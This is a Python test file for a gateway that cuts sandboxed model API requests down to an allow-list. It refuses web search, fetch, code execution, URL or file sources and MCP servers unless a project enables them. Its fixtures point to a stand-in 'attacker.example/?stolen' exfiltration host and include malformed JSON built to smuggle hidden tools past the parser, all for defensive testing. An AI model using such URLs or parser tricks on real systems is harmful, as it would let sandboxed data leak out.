"""Requests for the model: reduced to an allow-list, so that a sandbox cannot send data out through the model's host."""

import json
from typing import Any

import pytest

from tests.gateway.answers import BODY
from tests.gateway.conftest import OpenSocket, Start
from tests.gateway.places import Host

URL = {"type": "url", "url": "https://attacker.example/?stolen"}
FILE = {"type": "file", "file_id": "file_011"}
HEADERS = {"anthropic-beta": "claude-code-20250219"}


def said(*blocks: dict[str, Any], role: str = "user") -> dict[str, Any]:
    return {"messages": [{"role": role, "content": list(blocks)}]}


def result(*blocks: dict[str, Any]) -> dict[str, Any]:
    return {"type": "tool_result", "tool_use_id": "t", "content": list(blocks)}


WEB_TOOL = {"type": "web_search_20250305", "name": "web_search"}
ADDED_TOOL = {"type": "tool_addition", "tool": {"type": "tool_definition", "definition": WEB_TOOL}}

WAYS_OUT = {
    "web search": ("web_search", {"tools": [WEB_TOOL]}),
    "web search added in a message": ("web_search", said(ADDED_TOOL, role="system")),
    "web search in the history": (
        "web_search",
        said({"type": "server_tool_use", "id": "s", "name": "web_search", "input": {"query": "x"}}, role="assistant"),
    ),
    "web fetch": ("web_fetch", {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
    "code execution": ("code_execution", {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
    "a container": ("code_execution", {"container": "container_011"}),
    "an image by URL": ("url_sources", said({"type": "image", "source": URL})),
    "a document by URL": ("url_sources", said({"type": "document", "source": URL})),
    "an image by URL in a tool's result": ("url_sources", said(result({"type": "image", "source": URL}))),
    "an image by URL in a document": (
        "url_sources",
        said({"type": "document", "source": {"type": "content", "content": [{"type": "image", "source": URL}]}}),
    ),
    "an image by URL in the system prompt": ("url_sources", {"system": [{"type": "image", "source": URL}]}),
    "an uploaded file": ("file_sources", said({"type": "document", "source": FILE})),
    "an uploaded file for a container": ("file_sources", said({"type": "container_upload", "file_id": "file_011"})),
    "MCP servers": ("mcp", {"mcp_servers": [{"type": "url", "name": "x", "url": "https://attacker.example"}]}),
    "an MCP toolset": ("mcp", {"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]}),
}
SKILLS = {"container": {"skills": [{"type": "custom", "skill_id": "skill_011", "version": "latest"}]}}


async def send(open_socket: OpenSocket, start: Start, body: Any, *, features: list[str], path: str) -> tuple[int, str]:
    gateway_socket = await open_socket(project_settings={"model_features": features})
    await start()
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    async with gateway_socket.client(**HEADERS) as client:
        async with client.post(path, data=data) as answer:
            return answer.status, await answer.text()


@pytest.mark.parametrize("path", ["/v1/messages", "/v1/messages/count_tokens"])
@pytest.mark.parametrize("way", WAYS_OUT)
async def test_a_feature_that_reaches_past_the_sandbox_is_refused(
    open_socket: OpenSocket, start: Start, *, model: Host, way: str, path: str
) -> None:
    feature, more = WAYS_OUT[way]

    status, told = await send(open_socket, start, BODY | more, features=[], path=path)

    assert (status, model.asked) == (400, [])
    assert f"allow it with {feature} in settings.model_features" in told


@pytest.mark.parametrize("way", WAYS_OUT)
async def test_the_same_request_is_forwarded_if_the_project_allows_it(
    open_socket: OpenSocket, start: Start, *, model: Host, way: str
) -> None:
    feature, more = WAYS_OUT[way]

    status, _ = await send(open_socket, start, BODY | more, features=[feature], path="/v1/messages")

    assert status == 200
    assert json.loads(model.asked[0].body) == BODY | more


@pytest.mark.parametrize(("features", "status"), [(["code_execution"], 400), (["code_execution", "skills"], 200)])
async def test_skills_have_to_be_allowed_besides_code_execution(
    open_socket: OpenSocket, start: Start, *, model: Host, features: list[str], status: int
) -> None:
    assert (await send(open_socket, start, BODY | SKILLS, features=features, path="/v1/messages"))[0] == status
    assert len(model.asked) == (status == 200)


HIDDEN_TOOL = b'{"model":"m","messages":[],"tools":[{"type":"web_search_20250305","name":"w"}],"tools":[]}'


@pytest.mark.parametrize(
    "body",
    [
        HIDDEN_TOOL,
        b'{"model":"m","messages":[],"tools":[{"name":"w","type":"web_search_20250305","type":"custom"}]}',
        b'{"model":"m","messages":[],"t\\u006fols":[],"tools":[]}',
        b'{"model":"m","messages":[],"system":"\xff"}',
        '{"model":"m","messages":[]}'.encode("utf-16"),
        b'{"model":"m","messages":[],"temperature":NaN}',
        b'{"model":"m","messages":[],"temperature":1e999}',
        b'{"model":"m","messages":[],"metadata":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"model":"m","messages":[{"role":"user","content":[{"type":"text","text":"\\ud800"}]}]}',
        b'{"model":"m","messages":[]} {}',
        b'{"model":["m"],"messages":[]}',
        b'{"model":"m"}',
        b"[]",
        json.dumps(BODY | {"tools": [{"type": ["web_search_20250305"], "name": "w"}]}).encode(),
        json.dumps(BODY | {"tools": [{"type": "web_search_20250305\n", "name": "w"}]}).encode(),
        json.dumps(BODY | {"tools": {"0": WEB_TOOL}}).encode(),
        json.dumps(BODY | said({"type": "image", "source": {"type": ["url"], "url": "https://x"}})).encode(),
        json.dumps(BODY | said({"type": "image", "source": "https://x"})).encode(),
        json.dumps(BODY | said({"type": "something_new", "url": "https://x"})).encode(),
        json.dumps(BODY | {"messages": [{"role": "tool", "content": "x"}]}).encode(),
    ],
)
async def test_a_request_that_parsers_may_read_differently_is_refused(
    open_socket: OpenSocket, start: Start, *, model: Host, body: bytes
) -> None:
    status, _ = await send(open_socket, start, body, features=[], path="/v1/messages")

    assert (status, model.asked) == (400, [])


async def test_unknown_fields_betas_and_parameters_are_left_out(
    open_socket: OpenSocket, start: Start, model: Host
) -> None:
    gateway_socket = await open_socket()
    await start()
    more = {"service_tier": "auto", "speed": "fast", "inference_geo": "x", "something_new": {"url": "https://x"}}
    betas = "claude-code-20250219,files-api-2025-04-14, effort-2025-11-24,mcp-client-2025-11-20"

    async with gateway_socket.client(**{"anthropic-beta": betas, "anthropic-secret": "x"}) as client:
        async with client.post("/v1/messages?beta=true&x=1", json=BODY | more) as answer:
            assert answer.status == 200

    (asked,) = model.asked
    assert json.loads(asked.body) == BODY
    assert asked.headers["anthropic-beta"] == "claude-code-20250219,effort-2025-11-24"
    assert "anthropic-secret" not in asked.headers
    assert asked.path == "/v1/messages?beta=true"


async def test_requests_of_a_normal_agent_are_forwarded_unchanged(
    open_socket: OpenSocket, start: Start, model: Host
) -> None:
    cached = {"cache_control": {"type": "ephemeral", "ttl": "1h"}}
    picture = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AA=="}}
    body = {
        "model": "claude-sonnet-4-5",
        "max_tokens": 32000,
        "stream": True,
        "temperature": 0.7,
        "system": [{"type": "text", "text": "Be brief. ü", **cached}],
        "messages": [
            {"role": "user", "content": "hello"},
            {
                "role": "assistant",
                "content": [
                    {"type": "thinking", "thinking": "hm", "signature": "s"},
                    {"type": "redacted_thinking", "data": "r"},
                    {
                        "type": "tool_use",
                        "id": "t",
                        "name": "Read",
                        "input": {"type": "url", "source": {"type": "url"}},
                    },
                ],
            },
            {
                "role": "user",
                "content": [result({"type": "text", "text": "x"}, picture) | {"is_error": False} | cached],
            },
            {"role": "system", "content": [{"type": "text", "text": "new tools"}]},
        ],
        "tools": [{"name": "Read", "description": "d", "input_schema": {"type": "object"}, "defer_loading": True}],
        "tool_choice": {"type": "auto", "disable_parallel_tool_use": True},
        "thinking": {"type": "enabled", "budget_tokens": 31999, "display": "updates"},
        "context_management": {"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]},
        "output_config": {"effort": "high"},
        "metadata": {"user_id": "u"},
    }

    status, _ = await send(open_socket, start, body, features=[], path="/v1/messages")

    assert status == 200
    assert json.loads(model.asked[0].body) == body
